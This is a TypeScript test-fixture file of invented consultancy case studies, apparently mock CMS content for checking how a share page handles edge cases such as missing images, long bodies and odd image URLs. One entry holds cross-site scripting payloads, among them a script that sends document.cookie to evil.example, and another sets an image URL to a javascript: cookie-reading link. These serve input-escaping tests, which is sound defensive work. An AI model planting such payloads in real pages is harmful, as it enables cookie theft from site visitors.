import type { ContentType, Entry, Schema } from './content-set';
import { uploadedImage } from './sample-media';
import { draftOn, publishedOn } from './sample-timestamps';

/**
 * The sample case studies (`blogs`), one per case the share page must
 * handle. All text is invented; Marchcroft's clients here do not exist.
 */

/** Slugs of the published sample case studies by the case each exercises; the first is the plain one. */
export const BLOG_SLUGS = {
  /** Relative JPEG with every format, alternative text and size, under 300 KB. */
  normal: 'logistics-cloud-migration',
  /** `image: null`, empty tags. */
  noImage: 'no-image-case-study',
  /** Quotes, HTML, `&`, non-ASCII and an emoji in the title, summary and body. */
  hostileText: 'hostile-markup-case-study',
  /** Image on a cloud provider: absolute `https://images.example.com/...jpg`. */
  absoluteImageUrl: 'absolute-image-url-case-study',
  /** Image URL without a scheme: `//cdn.example.com/...png`. */
  protocolRelativeImageUrl: 'protocol-relative-image-case-study',
  /** `content: null` and a first section of several thousand characters with markup. */
  longBody: 'long-read-case-study',
  /** Original of 1843.2 KB (over 300 KB) whose `large` format is under 300 KB. */
  oversizedImage: 'oversized-image-case-study',
  /** WebP original with WebP formats only: no JPEG or PNG to fall back on. */
  webpImage: 'webp-image-case-study',
  /** SVG original with `formats: null`, as Strapi stores vector uploads. */
  svgImage: 'svg-image-case-study',
  /** Relative PNG whose URL has a query string (`?updated=123`). */
  imageUrlWithQuery: 'query-string-image-case-study',
  /** Hostile image URL: `javascript:alert(document.cookie)`, no formats. */
  javascriptImageUrl: 'javascript-url-image-case-study',
} as const;

/** A draft (`publishedAt: null`): absent from answers unless `publicationState=preview`. */
export const DRAFT_BLOG_SLUG = 'unpublished-draft-case-study';

const LONG_BODY = [
  '<p>When Ferrowick Rail Freight asked us to look at their scheduling platform, the brief was one line long: make the overnight planning run finish before the morning shift starts. The platform had grown over fourteen years, one urgent feature at a time, and the planning run now took a little over nine hours on a good night.</p>',
  'We started by measuring instead of guessing. For two weeks we traced every stage of the run: loading the day\'s bookings, matching wagons to locomotives, checking crew hours against the regulations, and publishing the plan to the depots. The traces showed that almost six of the nine hours went into a single step that recomputed every crew roster from scratch, even when a booking had changed nothing about it.',
  '<p>The fix was not a rewrite. We introduced an incremental roster model that recomputes only the crews a changed booking can reach, and we kept the old full computation running beside it for a month, comparing both plans every night. The two disagreed on eleven nights; each disagreement turned out to be a bug in the <em>old</em> code, which had quietly double-counted rest breaks across midnight.</p>',
  'Once the roster step was incremental, the rest of the run became the bottleneck, as it always does. Loading bookings was bound by a chatty API that made one call per wagon; batching those calls took loading from forty minutes to under three. Publishing to the depots had a fixed thirty-minute wait that nobody could explain, and that nobody missed when we removed it.',
  '<p>We moved the run to managed containers so that it scales out during the peak weeks before public holidays, when bookings double. The infrastructure is described in code and deployed through the same pipeline as the application, so the planners\' weekend changes no longer wait for an operations ticket. Read more about <a href="https://example.com/marchcroft/infrastructure-as-code">how we approach infrastructure as code</a>.</p>',
  'Just as important was what we left alone. The wagon-matching algorithm is old, dense and correct, and the planners trust it. We wrapped it in tests built from two years of real plans, then left the code exactly as it was. Replacing it would have been a satisfying project for us and a risky one for Ferrowick, with no gain the planners would notice.',
  '<p>Today the planning run finishes in forty-eight minutes on an ordinary night and a little under ninety during the holiday peaks. The planners use the spare hours to run what-if plans for engineering works, something the old platform could never fit into a night. Depot managers get their plans before they arrive, not halfway through the first shift.</p>',
  'The team that maintains the platform now owns the traces, the comparison harness and the deployment pipeline. We ran three workshops on reading the traces and one on the incremental roster model, and we paired with their engineers on the last two changes rather than making them ourselves. Six months later, they have shipped nine changes to the planning run without us.',
  '<p>If your own overnight jobs are creeping towards the morning, the lesson we would pass on is the one we started with: measure first. The slow part is rarely where the team expects it, and the cheapest fix is usually smaller than the rewrite everyone has been quietly planning. <a href="https://example.com/marchcroft/contact">Talk to us</a> about where your hours go.</p>',
].join('\n\n');

function blog(id: number, slug: string, day: string, fields: Omit<Entry, 'id' | 'createdAt' | 'updatedAt' | 'publishedAt'>): Entry {
  return { id, slug, date: day, ...publishedOn(day), ...fields };
}

const ENTRIES: readonly Entry[] = [
  blog(1, BLOG_SLUGS.normal, '2025-11-18', {
    blogTitle: 'Moving a regional logistics group to the cloud in twelve weeks',
    tags: ['Cloud', 'AWS', 'Migration'],
    content: 'How Halvergate Logistics left two ageing data centres for AWS without a single missed delivery slot.',
    image: uploadedImage({
      id: 1,
      name: 'halvergate-warehouse.jpg',
      hash: 'halvergate_warehouse_a41f9c2e07',
      width: 1200,
      height: 800,
      size: 212.48,
      alternativeText: 'Forklifts in a Halvergate Logistics warehouse at dawn',
      caption: 'Halvergate’s Norwich hub',
      uploadedAt: '2025-11-17T16:03:11.482Z',
    }),
    blogContent: [
      { id: 1, title: 'The challenge', content: 'Two data centres, forty-one applications and a lease ending in March.\nEvery night the routing system plans 3,000 deliveries.' },
      {
        id: 2,
        title: 'What we did',
        content: '<p>We moved the applications in waves, quietest first.</p>\n<p>Each wave ran in both places for a week before we switched.</p>',
        image: uploadedImage({ id: 2, name: 'migration-waves.png', hash: 'migration_waves_5d20be9a13', width: 960, height: 540, size: 48.9, alternativeText: 'Migration waves chart', uploadedAt: '2025-11-17T16:04:02.117Z' }),
      },
      { id: 3, title: 'The result', content: 'Both data centres closed on time. Infrastructure costs fell by a third.' },
    ],
  }),
  blog(2, BLOG_SLUGS.noImage, '2025-06-03', {
    blogTitle: 'Rebuilding a booking engine without downtime',
    tags: [],
    content: 'A ferry operator’s booking engine, replaced piece by piece while it kept selling tickets.',
    image: null,
    blogContent: [{ id: 4, title: 'Strangling the monolith', content: 'Each route moved to the new engine only after a week of shadow bookings matched.' }],
  }),
  blog(3, BLOG_SLUGS.hostileText, '2025-09-21', {
    blogTitle: '"><script>alert(1)</script> Café & Co — “Zürich” <b>bold</b>',
    tags: ['<script>', 'Café & Co', 'UX Design'],
    content: 'Café &amp; Co’s &lt;b&gt;Zürich&lt;/b&gt; launch: "quotes", \'apostrophes\', <i>tags</i> & an emoji 🚀 — naïve façade, 東京, Ελληνικά.',
    image: uploadedImage({
      id: 3,
      name: 'cafe-co-zurich.png',
      hash: 'cafe_co_zurich_9be1f04c7a',
      width: 1200,
      height: 630,
      size: 96.31,
      alternativeText: '"Café & Co" <storefront> in Zürich',
      uploadedAt: '2025-09-20T11:47:55.006Z',
    }),
    blogContent: [
      {
        id: 5,
        title: '</title><script>alert("section")</script>',
        content:
          'Menus in four languages: Deutsch, Français, Italiano, English.\n<img src="x" onerror="alert(2)">\n<a href="javascript:alert(3)">Order ahead</a> — 10% off “today” only.<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      },
    ],
  }),
  blog(4, BLOG_SLUGS.absoluteImageUrl, '2024-12-09', {
    blogTitle: 'Port crane telemetry on a shoestring',
    tags: ['IoT', 'Cloud'],
    content: 'Streaming sensor data from forty cranes at Tollmarsh Docks for less than the cost of one spare motor.',
    image: uploadedImage({
      id: 4,
      name: 'harbour-crane.jpg',
      hash: 'harbour_crane_7c1d2e',
      width: 1600,
      height: 900,
      size: 187.02,
      alternativeText: 'A container crane at dusk',
      baseUrl: 'https://images.example.com/marchcroft/',
      provider: 'aws-s3',
      uploadedAt: '2024-12-08T08:30:00.000Z',
    }),
    blogContent: [{ id: 6, title: 'Sensors first', content: 'We read the cranes’ existing PLCs rather than fitting new sensors.' }],
  }),
  blog(5, BLOG_SLUGS.protocolRelativeImageUrl, '2025-02-14', {
    blogTitle: 'Soil sensors for a family vineyard',
    tags: ['IoT', 'Engineering and Technology'],
    content: 'Irrigation driven by soil moisture, not by the calendar, for Quillon Estate.',
    image: uploadedImage({
      id: 5,
      name: 'vineyard-sensors.png',
      hash: 'vineyard_sensors_3b9a',
      width: 1024,
      height: 683,
      size: 143.77,
      alternativeText: 'Rows of vines with a sensor post',
      baseUrl: '//cdn.example.com/uploads/',
      provider: 'cloudinary',
      uploadedAt: '2025-02-13T14:21:09.331Z',
    }),
    blogContent: [{ id: 7, title: 'Battery life', content: 'Each post reports every fifteen minutes and lasts two seasons on one battery.' }],
  }),
  blog(6, BLOG_SLUGS.longBody, '2025-10-07', {
    blogTitle: 'From nine hours to forty-eight minutes: a rail freight planning run',
    tags: ['Software Architecture & Infrastructure', 'Performance'],
    content: null,
    image: uploadedImage({
      id: 6,
      name: 'freight-yard.jpg',
      hash: 'freight_yard_e02c61d8b4',
      width: 1280,
      height: 720,
      size: 165.4,
      alternativeText: 'Freight wagons in a marshalling yard',
      uploadedAt: '2025-10-06T17:55:41.870Z',
    }),
    blogContent: [
      { id: 8, title: 'Measure first', content: LONG_BODY },
      { id: 9, title: 'In numbers', content: 'Nine hours before; forty-eight minutes after.' },
    ],
  }),
  blog(7, BLOG_SLUGS.oversizedImage, '2025-03-30', {
    blogTitle: 'A design system for a national charity',
    tags: ['UX Design'],
    content: 'One set of components for eleven websites, built with the charity’s own volunteers.',
    image: uploadedImage({
      id: 7,
      name: 'design-system-wall.jpg',
      hash: 'design_system_wall_f83a0e1b65',
      width: 2400,
      height: 1600,
      size: 1843.2,
      alternativeText: 'Printed components pinned to a studio wall',
      uploadedAt: '2025-03-29T10:10:10.010Z',
    }),
    blogContent: [{ id: 10, title: 'Volunteers as designers', content: 'Every component was tested by the volunteers who would use it.' }],
  }),
  blog(8, BLOG_SLUGS.webpImage, '2024-10-22', {
    blogTitle: 'Accessible ticketing for a theatre group',
    tags: ['UX Design', 'Accessibility'],
    content: 'Seat maps that work with screen readers, for the Orrin Street Players.',
    image: uploadedImage({
      id: 8,
      name: 'theatre-seat-map.webp',
      hash: 'theatre_seat_map_0a7d3c95e2',
      width: 1600,
      height: 1000,
      size: 118.64,
      alternativeText: 'A seat map with accessible seats marked',
      uploadedAt: '2024-10-21T19:45:00.512Z',
    }),
    blogContent: [{ id: 11, title: 'Seats as a list', content: 'Screen-reader users get the seat map as a sortable list of rows.' }],
  }),
  blog(9, BLOG_SLUGS.svgImage, '2025-04-25', {
    blogTitle: 'A data platform strategy in six weeks',
    tags: ['Strategic Consultancy'],
    content: 'A roadmap, not a platform: what Brackenfield Insurance should build first, and what never.',
    image: uploadedImage({
      id: 9,
      name: 'data-platform-diagram.svg',
      hash: 'data_platform_diagram_44c2a1',
      width: 1200,
      height: 630,
      size: 7.82,
      alternativeText: 'Boxes and arrows of the target data platform',
      resized: false,
      uploadedAt: '2025-04-24T12:00:00.000Z',
    }),
    blogContent: [{ id: 12, title: 'Six weeks', content: 'Two weeks listening, two weeks drawing, two weeks arguing about the drawings.' }],
  }),
  blog(10, BLOG_SLUGS.imageUrlWithQuery, '2025-08-12', {
    blogTitle: 'A new brand site in a fortnight',
    tags: ['Sales', 'UX Design'],
    content: 'Kestrel Bikes relaunched with a faster site the week their new range shipped.',
    image: uploadedImage({
      id: 10,
      name: 'kestrel-bikes-hero.png',
      hash: 'kestrel_bikes_hero_6d1f',
      width: 1200,
      height: 630,
      size: 88.15,
      alternativeText: 'A road bike against a brick wall',
      url: '/uploads/kestrel_bikes_hero_6d1f.png?updated=123',
      uploadedAt: '2025-08-11T09:00:00.000Z',
    }),
    blogContent: [{ id: 13, title: 'Two weeks', content: 'Static pages, one form, no carousel.' }],
  }),
  blog(11, BLOG_SLUGS.javascriptImageUrl, '2025-01-17', {
    blogTitle: 'Hardening a customer portal',
    tags: ['Security'],
    content: 'A penetration test found twelve issues; we fixed them and the process that let them in.',
    image: {
      ...uploadedImage({ id: 11, name: 'portal.png', hash: 'portal_2e9b', width: 1200, height: 630, size: 12.5, resized: false, uploadedAt: '2025-01-16T08:00:00.000Z' }),
      url: 'javascript:alert(document.cookie)',
    },
    blogContent: [{ id: 14, title: 'Twelve issues', content: 'Most were one missing check repeated in twelve places.' }],
  }),
  {
    id: 12,
    slug: DRAFT_BLOG_SLUG,
    date: '2026-01-05',
    ...draftOn('2026-01-05'),
    blogTitle: 'Draft: a case study nobody has approved yet',
    tags: ['Cloud'],
    content: 'Not published; previews only.',
    image: null,
    blogContent: [],
  },
];

/** `api::blog.blog`: a collection, not localized. */
export const BLOGS: ContentType = {
  kind: 'collectionType',
  singularName: 'blog',
  pluralName: 'blogs',
  attributes: {
    blogTitle: { type: 'string' },
    slug: { type: 'uid' },
    date: { type: 'date' },
    tags: { type: 'json' },
    content: { type: 'text' },
    image: { type: 'media', multiple: false },
    blogContent: { type: 'component', component: 'blog.section', repeatable: true },
  },
  entries: ENTRIES,
};

/** `blog.section`: a titled part of a case study body, whose `content` the site renders as raw HTML. */
export const BLOG_SECTION: Schema = {
  title: { type: 'string' },
  content: { type: 'text' },
  image: { type: 'media', multiple: false },
};
